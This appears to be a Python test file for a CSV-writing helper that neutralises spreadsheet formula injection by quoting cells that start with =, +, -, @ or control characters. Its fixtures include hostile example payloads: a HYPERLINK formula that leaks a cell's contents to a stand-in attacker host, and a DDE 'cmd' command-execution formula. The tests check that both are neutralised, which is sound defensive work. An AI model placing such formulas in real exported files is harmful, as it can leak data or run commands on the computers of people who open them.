"""Spreadsheet formulas in the CSV the product writes (retrieval/text/csv_cells.py): OWASP's CSV
injection rule, a cell starting with = + - @ tab CR (or NUL) gets a leading single quote."""

from retrieval.text.csv_cells import FORMULA_STARTS, csv_text, restore_cell, safe_cell


def test_cells_starting_a_formula_get_a_quote_and_read_back():
    for dangerous in ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
                      "\0x", "=", "'=already quoted"):
        written = safe_cell(dangerous)
        assert written == "'" + dangerous and restore_cell(written) == dangerous
    for harmless in ("d1", "a=b", " =x", "'plain", "''", "", "文档-1", "can't tell"):
        assert safe_cell(harmless) == harmless and restore_cell(harmless) == harmless
    assert safe_cell(-1) == -1 and safe_cell(0.25) == 0.25  # numbers are numbers, never text
    assert safe_cell("=x", prefix=" ") == " =x"
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "\0"}


def test_csv_text_writes_every_cell_safely():
    assert csv_text([["id", "value"], ["=cmd|' /C calc'!A0", -1], ["q,2", "@x"]]) == (
        "id,value\n'=cmd|' /C calc'!A0,-1\n\"q,2\",'@x\n")
